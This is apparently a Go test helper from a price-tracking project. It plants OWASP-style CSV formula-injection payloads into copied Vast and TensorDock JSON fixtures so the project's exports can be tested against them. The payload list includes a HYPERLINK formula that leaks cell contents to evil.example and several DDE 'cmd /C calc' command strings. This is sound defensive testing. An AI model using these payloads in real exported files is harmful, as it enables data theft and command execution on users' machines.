package testfile

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"github.com/pricewatch/pricewatch/fixtures"
)

// FormulaPayloads start with each character a spreadsheet reads as the
// start of a formula (OWASP, CSV Injection: = + - @ TAB CR).
var FormulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"details")`,
	`+SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1\r\nsecond line",
}

// FormulaFixtures is a copy of the fixtures whose scraped names and
// locations start with formula characters: the first six Vast bundles'
// geolocation (the location column) takes each payload as it is; the
// TensorDock location ids (the start of instance_name) and countries (the
// start of location) take the first four, which survive its TrimSpace.
func FormulaFixtures(t testing.TB) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.CopyFS(dir, fixtures.FS()); err != nil {
		t.Fatal(err)
	}
	edit := func(file string, change func(doc map[string]any)) {
		path := filepath.Join(dir, file)
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		d := json.NewDecoder(bytes.NewReader(b))
		d.UseNumber()
		var doc map[string]any
		if err := d.Decode(&doc); err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		change(doc)
		if b, err = json.Marshal(doc); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	edit("vast/bundles.json", func(doc map[string]any) {
		offers := doc["offers"].([]any)
		for i, p := range FormulaPayloads {
			offers[i].(map[string]any)["geolocation"] = p
		}
	})
	edit("tensordock/locations.json", func(doc map[string]any) {
		locs := doc["data"].(map[string]any)["locations"].([]any)
		for i, p := range FormulaPayloads[:4] {
			loc := locs[i].(map[string]any)
			loc["id"] = p + "-" + loc["id"].(string)
			loc["country"] = p
		}
	})
	return dir
}
